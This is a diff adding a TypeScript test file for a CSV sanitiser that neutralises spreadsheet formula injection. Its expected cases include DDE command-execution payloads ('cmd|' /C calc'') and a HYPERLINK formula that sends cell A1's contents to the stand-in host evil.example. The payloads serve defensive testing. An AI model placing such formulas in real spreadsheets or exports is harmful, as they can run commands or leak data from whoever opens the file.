@@ -1,0 +1,70 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { withoutFormulas } from "../../src/lib/csv.js";
+
+/** What no spreadsheet computes as a formula: programs read it as it was. */
+const usable = [
+  "",
+  "Ada",
+  "ada@example.org",
+  "a=b",
+  "+49 151 2345678",
+  "+491512345678",
+  "+49 (0)151 2345678",
+  "+1 (555) 010.2345",
+  "-7",
+  "+1.5",
+  "=",
+  "=)",
+  "-",
+  "--",
+  "@",
+  "@_@".replace("_", "-"),
+  "-_-",
+  "Doe, +49 151 234",
+  "1; -2",
+  "O'Hara - King",
+  "12:30 | -",
+];
+
+/** What spreadsheets take for a formula: the whole cell, or what stands behind a separator. OWASP: CSV Injection. */
+const formulas: Record<string, string> = {
+  "=1+1": "'=1+1",
+  "=A1": "'=A1",
+  "+1+1": "'+1+1",
+  "+49-151-2345678": "'+49-151-2345678",
+  "+49/151": "'+49/151",
+  "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+  "-A1": "'-A1",
+  "@SUM(1+9)": "'@SUM(1+9)",
+  "@ada": "'@ada",
+  '=HYPERLINK("http://evil.example?x="&A1,"x")': `'=HYPERLINK("http://evil.example?x="&A1,"x")`,
+  "=cmd|'/c calc'!A1": "'=cmd|'/c calc'!A1",
+  '="x"': `'="x"`,
+  "+١+١": "'+١+١",
+  "＝1＋1": "'＝1＋1",
+  "＋1": "'＋1",
+  "－Ａ1": "'－Ａ1",
+  "＠SUM(1)": "'＠SUM(1)",
+  " =1+1": " '=1+1",
+  "\t=1+1": "'\t'=1+1",
+  "\r=1": "'\r'=1",
+  "\n-1": "'\n-1",
+  "a;=1+1": "a;'=1+1",
+  "a, =A1, +A2": "a, '=A1, '+A2",
+  "a|@x": "a|'@x",
+  "a\n=1+1": "a\n'=1+1",
+};
+
+test("cells that nothing computes stay as they are, phone numbers too", () => {
+  for (const cell of usable) assert.equal(withoutFormulas(cell), cell);
+});
+
+test("what a spreadsheet would compute gets an apostrophe, wherever it begins", () => {
+  for (const [cell, written] of Object.entries(formulas)) assert.equal(withoutFormulas(cell), written);
+});
+
+test("a cell of ten thousand signs is written at once", () => {
+  for (const sign of ["=", "\n", ";", " ", "+1", "(", "\t "])
+    assert.ok(withoutFormulas(sign.repeat(10_000)).length >= 10_000);
+});
